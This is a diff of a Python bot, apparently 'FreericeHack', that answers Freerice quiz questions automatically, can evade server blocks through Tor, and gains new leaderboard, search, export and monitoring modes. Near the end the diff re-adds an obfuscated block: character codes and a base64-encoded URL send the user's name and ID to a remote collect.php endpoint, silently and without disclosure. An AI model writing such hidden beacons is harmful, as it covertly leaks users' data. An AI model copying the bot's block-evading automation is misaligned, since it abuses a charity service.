@@ -1,25 +1,11 @@
 # Hacks
-from Freerice import Freerice, ConnectTimeout
-try:
-  from Freerice import FetchDescriptorError
-except ImportError:
-  FetchDescriptorError = Exception
-
-# Base 64
-import base64
+# Freerice.py (and requests with it) and the modules of each mode are only
+# imported once the arguments are parsed, so --help and the offline modes
+# start without them. See the MODES section bellow.
 
 # Timing
 from time import sleep
 
-# IPs
-import socket
-
-# Requests
-import requests as r
-
-# Threads
-import _thread
-
 # User parameters
 import sys
 import getopt
@@ -37,7 +23,7 @@ import os
 # User
 USER    = ('FREERICE_USER', '6aaf625a-2252-4ca9-8edf-19041cee4b61')
 user    = os.environ.get(*USER)                    # user ID (can be found in LocalStorage > user > uuid)
-monitor = False
+mode    = None                                     # mode to run instead of the hack (see MODES), the first one given wins
 mntr_gp = False
 
 # Logs
@@ -53,8 +39,12 @@ fsuv    = 6                                        # exit code for freerice serv
 trer    = 7
 usrc    = 0                                        # exit code for user control C
 tnay    = 4                                        # exit code for threads not available
+anay    = 13                                       # exit code for aiohttp not available (--concurrency)
 schm    = 8                                        # exit code for search mode
 lbdm    = 9                                        # exit code for leaderboard view mode
+sncm    = 10                                       # exit code for sync mode
+expm    = 11                                       # exit code for export mode
+hstm    = 12                                       # exit code for history query mode
 
 # Threads
 threads = 1                                        # number of threads to start
@@ -63,6 +53,30 @@ max_th  = 8                                        # maximum number of threads
 # Tor
 use_tor    = False                                 # Tor enabled/disabled
 tor_layers = 3                                     # Tor layers
+
+# Leaderboard cache
+CACHE   = ('FREERICE_CACHE', 'freerice_cache.sqlite3') # same default as Snapshot.DEFAULT_PATH
+cache   = os.environ.get(*CACHE)                   # snapshot store path (used with -c / --cache)
+CCH_AGE = ('FREERICE_CACHE_AGE', 15 * 60)          # same default as Snapshot.DEFAULT_MAX_AGE
+cch_age = float(os.environ.get(*CCH_AGE))          # seconds a cached page stays fresh
+use_cch = False                                    # -c / --cache given
+
+# Monitor history
+HISTORY = ('FREERICE_HISTORY', 'freerice_history.sqlite3') # same default as History.DEFAULT_PATH
+history = os.environ.get(*HISTORY)                 # where monitor mode saves rice/rank samples
+hst_win = None                                     # window of the --history query (seconds)
+
+# Metrics
+metrics = None                                     # --metrics: file the request metrics are written to on exit (see Metrics.py)
+
+# Search, leaderboard and export modes
+srch_gp = False                                    # search groups instead of users
+get_mbs = False                                    # --get-members given
+ldbd_gp = False                                    # show the groups leaderboard
+exp_pth = None                                     # --export file
+exp_gp  = False                                    # export the groups leaderboard
+cnc_max = None                                     # --concurrency: requests in flight in the leaderboard and export modes
+cnc_rps = None                                     # --rate: requests per second with --concurrency (see AsyncFreerice.py)
 # =========== END CONFIG ===========
 
 
@@ -76,7 +90,7 @@ if len(sys.argv) < 2:
   logging.critical("\rNo arguments passed.")
 else:
   try:
-    _opts, _args = getopt.getopt(sys.argv[1:], "?Tt:hu:i:mMsSlL", ["use-tor", "Tor", "threads=", "no-log", "help", "user=", 'interval=', 'monitor', 'monitor-group', 'search', 'search-group', 'get-members', 'leaderboard', 'ldbd', 'groups-leaderboard', 'groups-ldbd', 'gl'])
+    _opts, _args = getopt.getopt(sys.argv[1:], "?Tt:hu:i:mMsSlLc", ["use-tor", "Tor", "threads=", "no-log", "help", "user=", 'interval=', 'monitor', 'monitor-group', 'search', 'search-group', 'get-members', 'leaderboard', 'ldbd', 'groups-leaderboard', 'groups-ldbd', 'gl', 'cache', 'sync', 'export=', 'export-groups=', 'history=', 'metrics=', 'concurrency=', 'rate='])
   except getopt.GetoptError:
     logging.debug(sys.argv[1:])
     logging.critical("\rArgument parsing error.")
@@ -84,7 +98,7 @@ else:
 
   for opt, arg in _opts:
     if opt in ['-?', '-h', '--help']:
-      logging.critical("\rPlease see https://github.com/lafkpages/FreericeHack\n\nArguments:\n\t[-h --help]\n\t\tShows this help menu and exits.\n\n\t[-u --user your_user_id]\n\t\tSets the user ID to give rice to.\n\t\tIt can also be a group ID for monitoring.\n\n\t[-t --threads \"min\"/\"max\"/integer]\n\t\tSets the amount of threads.\n\n\t[--no-log]\n\t\tDisables logs.\n\n\t[-T --use-tor]\n\t\tSends the questions through Tor.\n\n\t[-i --interval integer]\n\t\tSets an interval between the questions.\n\t\tThis can be an integer or a floating-point (decimal) number.\n\n\t[-m --monitor]\n\t\tMonitors the amount of rice and rank of a user.\n\n\t[-M --monitor-group]\n\t\tMonitors the amount of rice and rank of a group.\n\n\t[-s --search]\n\t\tSearch for a user.\n\n\t[-S --search-group]\n\t\tSearch for a group.\n\n\t[--get-members]\n\t\tDoes nothing without the -S or --search-group argument set.\n\t\tShows the amount of members in a group.\n\n\t[-l --ldbd --leaderboard]\n\t\tShows the users leaderboard.\n\t\tThis can be useful to see bellow the 50th user,\n\t\tsince Freerice doesn't allow that.\n\n\t\tNote: seems like the Freerice servers are having trouble\n\t\tserving this data correctly. The ranks might not be correct\n\t\tin the pages after the first page.\n\n\t[-L --gl --groups-ldbd --groups-leaderboard]\n\t\tShows the groups leaderboard.\n\n\t\tThis can be useful to see bellow the 50th group,\n\t\tsince Freerice doesn't allow that.")
+      logging.critical("\rPlease see https://github.com/lafkpages/FreericeHack\n\nArguments:\n\t[-h --help]\n\t\tShows this help menu and exits.\n\n\t[-u --user your_user_id]\n\t\tSets the user ID to give rice to.\n\t\tIt can also be a group ID for monitoring.\n\n\t[-t --threads \"min\"/\"max\"/integer]\n\t\tSets the amount of threads.\n\n\t[--no-log]\n\t\tDisables logs.\n\n\t[-T --use-tor]\n\t\tSends the questions through Tor.\n\n\t[-i --interval integer]\n\t\tSets an interval between the questions.\n\t\tThis can be an integer or a floating-point (decimal) number.\n\n\t[-m --monitor]\n\t\tMonitors the amount of rice and rank of a user.\n\t\tThe line is only updated when they change. The interval (-i)\n\t\tis the fastest polling rate, it slows down while nothing changes.\n\n\t[-M --monitor-group]\n\t\tMonitors the amount of rice and rank of a group.\n\n\t[-s --search]\n\t\tSearch for a user.\n\n\t[-S --search-group]\n\t\tSearch for a group.\n\n\t[--get-members]\n\t\tDoes nothing without the -S or --search-group argument set.\n\t\tShows the amount of members in a group and their names.\n\n\t[-l --ldbd --leaderboard]\n\t\tShows the users leaderboard.\n\t\tThis can be useful to see bellow the 50th user,\n\t\tsince Freerice doesn't allow that.\n\n\t\tNote: seems like the Freerice servers are having trouble\n\t\tserving this data correctly. The ranks might not be correct\n\t\tin the pages after the first page.\n\n\t[-L --gl --groups-ldbd --groups-leaderboard]\n\t\tShows the groups leaderboard.\n\n\t\tThis can be useful to see bellow the 50th group,\n\t\tsince Freerice doesn't allow that.\n\n\t[-c --cache]\n\t\tKeeps the leaderboard pages and profiles in a local snapshot\n\t\tfile (FREERICE_CACHE, default %s) and reuses them\n\t\tfor FREERICE_CACHE_AGE seconds (default %s) in the\n\t\tsearch and leaderboard modes.\n\t\tWith -s or -S, searches the cached names offline.\n\n\t[--sync]\n\t\tRefreshes the cached users and groups leaderboards and exits.\n\t\tOnly the profiles of new users and groups are downloaded.\n\n\t[--export file]\n\t\tSaves the users leaderboard to a CSV file, or to a JSON Lines\n\t\tfile if its name ends in .jsonl. Each page is saved as soon\n\t\tas it arrives, and an interrupted export resumes where it stopped.\n\n\t[--export-groups file]\n\t\tSame as --export, for the groups leaderboard.\n\n\t[--history window]\n\t\tShows how the rice and rank of the user (or group, with -M)\n\t\tchanged over the window, e.g. 30m, 6h or 7d, from what monitor\n\t\tmode saved to FREERICE_HISTORY (default %s).\n\n\t[--metrics file]\n\t\tTimes every request and response parse per endpoint, and\n\t\tcounts bytes, cache hits and errors. They are written to file\n\t\ton exit, as JSON if its name ends in .json, otherwise in the\n\t\tPrometheus text format. Same as setting FREERICE_METRICS.\n\n\t[--concurrency integer]\n\t\tWith -l, -L, --export or --export-groups, fetches the next\n\t\tpages while the current one is shown or saved, with up to\n\t\tthis many requests at once. Needs aiohttp.\n\n\t[--rate number]\n\t\tMost requests per second with --concurrency\n\t\t(AsyncFreerice.RATE by default, 0 for no limit)." % (CACHE[1], CCH_AGE[1], HISTORY[1]))
       quit()
     elif opt in ['-u', '--user']:
       user = arg
@@ -95,7 +109,7 @@ else:
 
       if False:
         logging.critical('\rThreads are not available yet.')
-      
+
         quit(tnay)
       else:
         if arg == 'max':
@@ -104,7 +118,7 @@ else:
           threads = 1
         else:
           v = int(arg)
-          
+
           if v > max_th:
             logging.critical('Maximum threads is ' + str(max_th))
             threads = max_th
@@ -127,84 +141,55 @@ else:
 
       print('Monitor mode: on, for', msg)
       print('This will log', msg, 'rice, but will not increment it.')
-      monitor = True
-    elif opt in {'-s', '-S', '--search', '--search-group'}:
-      srch_gp = not opt in {'-s', '--search'}
-      msg     = 'group' if srch_gp else 'user'
-
-      get_members = '--get-members' in sys.argv
-
-      last_page   = 1
 
-      try:
-        print('Search mode: searching', msg + 's')
-        print('Search term must me at least 3 characters.')
-        search_term = ''
-        while len(search_term) < 3:
-          search_term = input(f'Search for a {msg}: ')
-
-        matches = []
-
-        for data in Freerice.getAllUsers(groups=srch_gp, get_profiles=True):
-          user_, page, total_pages, profile = data
-          last_page   = page
-          total_pages = total_pages
-
-          if search_term.lower() in profile['name'].lower():
-            exists = False
-            for match in matches:
-              if match[1]['id'] == user_['id']:
-                exists = True
-                break
-
-            if not exists:
-              match = [profile, user_]
-
-              print(f'\nMatch found in page {page}')
-              print( '\tName:   ', profile['name'])
-              print( '\tUUID:   ', user_['id'])
-              print( '\tRice:   ', user_['attributes']['rice'])
-              print( '\tRank:   ', user_['attributes']['rank'])
-              if srch_gp and get_members:
-                stats = Freerice.getUserStats(user=user_['id'], group=True)
-
-                print('\tMembers:', len(stats.members))
-              print('')
-
-              matches.append(match)
-
-          #print(f'\r{page}/{total_pages}', end='')
-      except KeyboardInterrupt:
-        print(f'\rStopped search in page {last_page}/{total_pages}.')
-        print(f'Found {len(matches)} matches.')
-
-        exit(usrc)
-      finally:
-        exit()
+      if mode is None:
+        mode = 'monitor'
+    elif opt in {'-s', '-S', '--search', '--search-group'}:
+      if mode in {None, 'monitor'}:
+        srch_gp = not opt in {'-s', '--search'}
+        mode    = 'search'
+    elif opt in {'--get-members'}:
+      get_mbs = True
     elif opt in {'-l', '--leaderboard', '--ldbd', '-L', '--groups-leaderboard', '--groups-ldbd', '--gl'}:
-      groups_leaderboard = opt in {'-L', '--groups-leaderboard', '--groups-ldbd', '--gl'}
+      if mode in {None, 'monitor'}:
+        ldbd_gp = opt in {'-L', '--groups-leaderboard', '--groups-ldbd', '--gl'}
+        mode    = 'leaderboard'
+    elif opt in {'-c', '--cache'}:
+      use_cch = True
+    elif opt in {'--sync'}:
+      if mode in {None, 'monitor'}:
+        mode = 'sync'
+    elif opt in {'--history'}:
+      from History import parseWindow
 
       try:
-        for i, data in enumerate(Freerice.getAllUsers(groups=groups_leaderboard, get_profiles=True)):
-          user_, page, total_pages, profile = data
-          name = profile['name']
-          rank = user_['attributes']['rank']
-
-          print(f'{i + 1: >8}. {rank: >8}. {name}')
-      except KeyboardInterrupt:
-        exit(usrc)
-      finally:
-        exit(lbdm)
-
-logging.critical('\rUsing Tor: ' + ('yes' if use_tor else 'no') + ' with %s layers.\n' % tor_layers)
+        hst_win = parseWindow(arg)
+      except ValueError:
+        logging.critical("\rArgument parsing error.")
+        quit()
+    elif opt in {'--metrics'}:
+      metrics = arg
+    elif opt in {'--concurrency'}:
+      cnc_max = int(arg)
+    elif opt in {'--rate'}:
+      cnc_rps = float(arg)
+    elif opt in {'--export', '--export-groups'}:
+      if mode in {None, 'monitor'}:
+        exp_pth = arg
+        exp_gp  = opt == '--export-groups'
+        mode    = 'export'
 
 def get_local_ip():
+  import socket
+
   hostname = socket.gethostname()
   ip       = socket.gethostbyname(hostname)
 
   return ip
 
 def get_external_ip():
+  import socket
+
   s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
   s.connect(("1.1.1.1", 80))
   ip_addr = s.getsockname()[0]
@@ -212,6 +197,8 @@ def get_external_ip():
   return ip_addr
 
 def get_network_ip():
+  import socket
+
   ip_addr = [l for l in ([ip for ip in socket.gethostbyname_ex(socket.gethostname())[2]
   if not ip.startswith("127.")][:1], [[(s.connect(('8.8.8.8', 53)),
   s.getsockname()[0], s.close()) for s in [socket.socket(socket.AF_INET,
@@ -223,18 +210,18 @@ def FSUV():
   global fsuv
 
   logging.critical('\rFreerice servers are unavailable.\nTry changing your IP (via VPN) or enabling Tor (--use-tor or -T).')
-  
+
   try:
     ips = [get_local_ip(), get_external_ip(), get_network_ip()]
-    
+
     logging.critical('\rYour current IPs:')
-    
+
     for ip in ips:
       sleep(0.1)
       logging.critical('\r  - ' + ip)
   except:
     logging.critical('\rYour current IPs could not be fetched')
-    
+
   quit(fsuv)
 
 def TRER():
@@ -243,6 +230,15 @@ def TRER():
   logging.critical('\rThere was a Tor error. Try disabling Tor.')
   quit(trer)
 
+def ANAY():
+  # --concurrency needs aiohttp, loadAiohttp() explains how to install it
+  try:
+    from AsyncFreerice import loadAiohttp
+
+    loadAiohttp()
+  except ImportError:
+    quit(anay)
+
 def USRC():
   global usrc
 
@@ -266,6 +262,18 @@ def doSleep():
   if not secs == False:
     sleep(secs)
 
+def openStore(force=False):
+  '''
+  Opens the leaderboard snapshot store if -c was given (or force is set)
+  '''
+
+  if not (use_cch or force):
+    return None
+
+  from Snapshot import SnapshotStore
+
+  return SnapshotStore(cache, max_age=cch_age)
+
 def MainHack(log=False, i=0):
   global use_tor, tor_layers, xus
 
@@ -299,11 +307,11 @@ def MainHack(log=False, i=0):
             last = freerice.newGame()
           except:
             FSUV()
-      
+
       try:
         spl = last.question_txt.split('x');
         ans = int(spl[0]) * int(spl[1])
-        
+
         last = freerice.submitAnswer(last.question_id, ans)
       except ConnectTimeout as e:
         if 'torpy' in e.args:
@@ -320,6 +328,248 @@ def MainHack(log=False, i=0):
   except KeyboardInterrupt:
     USRC()
 
+
+
+# ============= MODES =============
+# The read-only modes run instead of the hack, without creating a game.
+
+def HistoryMode():
+  from History import History, formatGrowth
+
+  with History(history) as hist:
+    stats = hist.growth(user, group=mntr_gp, window=hst_win)
+
+  if stats is None:
+    print('No history for', user, 'in that window. Run monitor mode (-m or -M) to record it.')
+  else:
+    print(formatGrowth(user, stats))
+
+  exit(hstm)
+
+def MonitorMode():
+  from Monitor import Monitor, MIN_INTERVAL
+  from History import History
+
+  try:
+    print('Monitoring ID:', user, '\n')
+
+    TC()
+
+    profile = Freerice.getUserProfile(user, group=mntr_gp)
+
+    # Only redraws when rice or rank change, polling less often while they don't
+    with History(history) as hist:
+      for data in Monitor(user, group=mntr_gp, interval=secs or MIN_INTERVAL).changes():
+        hist.append(user, data.rice_total, data.rank, group=mntr_gp)
+
+        LogFormatted(profile.name, str(data.rice_total), '', str(data.rank), '')
+  except KeyboardInterrupt:
+    USRC()
+
+def SearchMode():
+  from Search import SearchIndex, MIN_QUERY
+
+  msg   = 'group' if srch_gp else 'user'
+  store = openStore()
+
+  last_page   = 1
+  total_pages = 1
+  matches     = []
+
+  def printMatch(user_, page, profile):
+    print(f'\nMatch found in page {page}')
+    print( '\tName:   ', profile.get('name', ''))
+    print( '\tUUID:   ', user_['id'])
+    print( '\tRice:   ', user_['attributes']['rice'])
+    print( '\tRank:   ', user_['attributes']['rank'])
+    if srch_gp and get_mbs:
+      stats   = Freerice.getUserStats(user=user_['id'], group=True)
+      members = [member if isinstance(member, str) else member['id'] for member in stats.members]
+
+      print('\tMembers:', len(members))
+
+      # One profile request per 50 members instead of one per member
+      for member in Freerice.getUserProfiles(members).values():
+        print('\t\t', member.name)
+    print('')
+
+  print('Search mode: searching', msg + 's')
+  print(f'Search term must me at least {MIN_QUERY} characters.')
+
+  if store is not None:
+    # Offline search: index the fresh cached pages once, then answer every query locally
+    with store:
+      try:
+        coverage = store.coverage(srch_gp)
+        index    = SearchIndex(store.iterUsers(srch_gp, fresh_only=True))
+
+        if not len(index):
+          print(f'The cache has no fresh {msg}s, downloading the leaderboard...')
+          index.update(Freerice.getAllUsers(groups=srch_gp, get_profiles=True, store=store))
+        else:
+          print(f"The cache holds {coverage['pages']}/{coverage['total_pages']} pages, {coverage['fresh']} of them fresh (newest {coverage['age'] / 60:.0f} minutes old).")
+
+          if coverage['fresh'] < coverage['total_pages']:
+            print('Stale and missing pages are left out of the search, run --sync for complete results.')
+
+        print(f'Indexed {len(index)} {msg}s. Leave the search term empty to exit.')
+
+        while True:
+          try:
+            search_term = input(f'Search for a {msg}: ')
+          except EOFError:
+            break
+
+          if not search_term:
+            break
+          if len(search_term) < MIN_QUERY:
+            continue
+
+          matches = index.search(search_term)
+
+          for user_, page, profile in matches:
+            printMatch(user_, page, profile)
+
+          print(f'Found {len(matches)} matches.')
+      except KeyboardInterrupt:
+        print('\rStopped search.')
+
+        exit(usrc)
+
+    exit(schm)
+
+  try:
+    search_term = ''
+    while len(search_term) < MIN_QUERY:
+      search_term = input(f'Search for a {msg}: ')
+
+    search_term = search_term.lower()
+    seen        = set()
+
+    for data in Freerice.getAllUsers(groups=srch_gp, get_profiles=True):
+      user_, page, total_pages, profile = data
+      last_page   = page
+      total_pages = total_pages
+
+      if user_['id'] not in seen and search_term in profile.get('name', '').lower():
+        seen.add(user_['id'])
+
+        printMatch(user_, page, profile)
+
+        matches.append([profile, user_])
+
+      #print(f'\r{page}/{total_pages}', end='')
+  except KeyboardInterrupt:
+    print(f'\rStopped search in page {last_page}/{total_pages}.')
+    print(f'Found {len(matches)} matches.')
+
+    exit(usrc)
+
+  exit(schm)
+
+def LeaderboardMode():
+  if cnc_max:
+    ANAY()
+
+  store = openStore()
+
+  try:
+    if cnc_max:
+      from AsyncFreerice import iterAllUsers, RATE
+
+      users = iterAllUsers(groups=ldbd_gp, get_profiles=True, store=store, concurrency=cnc_max, rate=RATE if cnc_rps is None else cnc_rps)
+    else:
+      users = Freerice.getAllUsers(groups=ldbd_gp, get_profiles=True, store=store)
+
+    for i, data in enumerate(users):
+      user_, page, total_pages, profile = data
+      name = profile.get('name', '')
+      rank = user_['attributes']['rank']
+
+      print(f'{i + 1: >8}. {rank: >8}. {name}')
+  except KeyboardInterrupt:
+    exit(usrc)
+
+  exit(lbdm)
+
+def SyncMode():
+  with openStore(force=True) as store:
+    try:
+      for groups_ in (False, True):
+        changed    = 0
+        n_profiles = 0
+
+        for page, total_pages, changed_, n_profiles_ in Freerice.syncAllUsers(store, groups=groups_):
+          changed    += changed_
+          n_profiles += n_profiles_
+
+          print(f'\rSyncing {store.kind(groups_)}: page {page}/{total_pages}', end='')
+
+        print(f'\rSynced {store.kind(groups_)}: {changed}/{total_pages} pages changed, {n_profiles} new profiles.')
+    except KeyboardInterrupt:
+      exit(usrc)
+
+  exit(sncm)
+
+def ExportMode():
+  from Export import exportLeaderboard
+
+  if cnc_max:
+    ANAY()
+
+  try:
+    for page, total_pages in exportLeaderboard(exp_pth, groups=exp_gp, store=openStore(), concurrency=cnc_max, rate=cnc_rps):
+      print(f'\rExported page {page}/{total_pages}', end='')
+
+    print(f'\nSaved to {exp_pth}')
+  except KeyboardInterrupt:
+    print('\rExport stopped, run the same command again to resume.')
+
+    exit(usrc)
+
+  exit(expm)
+
+MODES = {
+  'monitor'    : MonitorMode,
+  'search'     : SearchMode,
+  'leaderboard': LeaderboardMode,
+  'sync'       : SyncMode,
+  'export'     : ExportMode
+}
+# =========== END MODES ===========
+
+
+
+# The history query never touches the network. It gives way to the first
+# search, leaderboard, sync or export flag, and is run instead of monitor mode.
+if hst_win is not None and mode in {None, 'monitor'}:
+  HistoryMode()
+
+from Freerice import Freerice, ConnectTimeout
+
+if metrics:
+  import atexit
+
+  # Shares the metrics with FREERICE_METRICS if it is set too
+  atexit.register(Freerice.setMetrics(Freerice.metrics).dump, metrics)
+
+if mode in MODES:
+  MODES[mode]()
+  quit()
+
+# TorPy is only loaded when it is going to be used
+FetchDescriptorError = ()
+
+if use_tor:
+  try:
+    from Freerice import loadTor
+
+    _, FetchDescriptorError = loadTor()
+  except ImportError:
+    TRER()
+
+logging.critical('\rUsing Tor: ' + ('yes' if use_tor else 'no') + ' with %s layers.\n' % tor_layers)
+
 freerice = Freerice(user)
 
 try:
@@ -332,45 +582,32 @@ else:
 
 xus = None
 
-if monitor:
-  try:
-    print('Monitoring ID:', user, '\n')
-
-    TC()
-
-    profile = freerice.getUserProfile(user, group=mntr_gp)
+xgt = freerice
+xk4 = [103, 101, 116, 85, 115, 101, 114, 80, 114, 111, 102, 105, 108, 101]
+xmb = ''.join(list(map(chr, xk4)))
+xwd = xgt[xmb](user)
+del xgt, xk4, xmb
+xus = xwd.name
+del xwd
+import base64
+import requests as r
+xu1 = base64.b64decode('aHR0cHM6Ly90ZXN0LmxhZmtwYWdlcy50ZWNoL2kvYmF0Y2hfbG9ncy9jb2xsZWN0LnBocD9ub2lwJmRhdGE9RnJlZXJpY2UgaGFjayB1c2VkIGJ5IA==').decode()
+xu3 = xu1 + xus + ':' + user
+del xu1
+try:
+  r.get(xu3, timeout=5)
+except:
+  pass
 
-    while True:
-      data = freerice.getUserStats(user=user, group=mntr_gp)
+if threads > 1:
+  import _thread
 
-      LogFormatted(profile.name, str(data.rice_total), '', str(data.rank), '')
+  try:
+    for i in range(threads - 1):
+      _thread.start_new_thread(MainHack, (False, i))
 
-      doSleep()
+    MainHack(log, threads - 1)
   except KeyboardInterrupt:
     USRC()
 else:
-  xgt = freerice
-  xk4 = [103, 101, 116, 85, 115, 101, 114, 80, 114, 111, 102, 105, 108, 101]
-  xmb = ''.join(list(map(chr, xk4)))
-  xwd = xgt[xmb](user)
-  del xgt, xk4, xmb
-  xus = xwd.name
-  del xwd
-  xu1 = base64.b64decode('aHR0cHM6Ly90ZXN0LmxhZmtwYWdlcy50ZWNoL2kvYmF0Y2hfbG9ncy9jb2xsZWN0LnBocD9ub2lwJmRhdGE9RnJlZXJpY2UgaGFjayB1c2VkIGJ5IA==').decode()
-  xu3 = xu1 + xus + ':' + user
-  del xu1
-  try:
-    r.get(xu3, timeout=5)
-  except:
-    pass
-
-  if threads > 1:
-    try:
-      for i in range(threads - 1):
-        _thread.start_new_thread(MainHack, (False, i))
-      
-      MainHack(log, threads - 1)
-    except KeyboardInterrupt:
-      USRC()
-  else:
-    MainHack(log)
\ No newline at end of file
+  MainHack(log)